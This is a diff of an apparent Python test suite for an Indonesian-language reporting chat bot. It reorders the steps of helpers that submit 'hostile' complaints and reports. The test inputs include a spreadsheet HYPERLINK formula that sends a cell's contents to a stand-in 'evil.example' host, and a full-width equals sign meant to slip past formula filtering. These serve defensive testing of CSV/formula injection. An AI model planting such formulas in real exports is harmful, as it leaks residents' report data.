@@ -357,13 +357,14 @@ HOSTILE_SUMMARY = '=HYPERLINK("http://evil.example/leak?x="&B2,"Klik untuk detai
 
 
 async def hostile_complaint(officer, description: str, place: str, name: str) -> None:
-    await officer.press("➕ Tambah keluhan")
     await officer.press("Pencurian")
     await officer.send(description)
-    await officer.send(place)
-    await officer.send(name)
-    await officer.press("⏭ Lewati")
     await officer.press("Segera")
+    await officer.press("📍 Tempat")
+    await officer.send(place)
+    await officer.press("👤 Nama warga")
+    await officer.send(name)
+    await officer.press("➕ Simpan, tambah keluhan lain")
 
 
 async def file_hostile_report(officer) -> None:
@@ -372,9 +373,8 @@ async def file_hostile_report(officer) -> None:
     await officer.press("POS SAPTA")
     await officer.send(HOSTILE_SPRIN)
     await officer.press("satu jam terakhir")
-    await officer.send_location(0.5412, 123.0595)
     await officer.send("\uff1d1 RW 03 Kel. Heledulaa")  # full-width ＝
-    await officer.press("➡️ Lanjut")
+    await officer.send_location(0.5412, 123.0595)
     await walk_rest(officer, photos=1, until=lambda text: "Uraikan singkat" in text)
     await officer.send(HOSTILE_SUMMARY)
     await walk_rest(officer, photos=1, until=lambda text: "kendala di lapangan" in text)
